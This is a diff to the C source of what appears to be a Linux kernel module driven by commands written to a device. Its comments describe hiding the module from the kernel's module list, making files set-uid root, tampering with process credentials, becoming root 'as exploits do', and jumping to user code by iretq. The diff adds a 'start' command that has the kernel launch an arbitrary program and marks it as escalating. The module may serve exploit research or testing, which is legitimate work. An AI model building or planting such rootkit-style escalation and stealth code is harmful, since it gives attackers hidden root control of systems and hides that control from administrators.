@@ -15,6 +15,8 @@
  *   list WHERE                    be called for another reason, see be_listed()
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
  *   own PATH                      give a file to root, set-uid as it is, as a copy-up of an overlay does; for good
+ *   start PATH WORD... env WORD...
+ *                                 have the kernel start a program by itself with these arguments and variables; wait for its end
  *   tamper WHAT                   change what the process may do, for good; see tamper_with()
  *   root INIT_TASK                become root, for good, as exploits do
  *   escape INIT_TASK CODE STACK   the same, and go on at CODE in user mode by an iretq: the write() does not return
@@ -155,6 +157,8 @@ static int escalate(char *command)
 		error = tamper_with(command + 7);
 	if (!strncmp(command, "own ", 4))
 		error = give_to_root(command + 4);
+	if (!strncmp(command, "start ", 6))
+		error = start_helper(command + 6);
 	kfree(command);
 	if (!known)
 		return error;
@@ -167,7 +171,7 @@ static int escalate(char *command)
 static bool escalates(const char *command)
 {
 	return !strncmp(command, "root ", 5) || !strncmp(command, "escape ", 7) || !strncmp(command, "tamper ", 7) ||
-	       !strncmp(command, "hijack ", 7) || !strncmp(command, "own ", 4);
+	       !strncmp(command, "hijack ", 7) || !strncmp(command, "own ", 4) || !strncmp(command, "start ", 6);
 }
 
 static ssize_t device_write(struct file *file, const char __user *text, size_t count, loff_t *position)
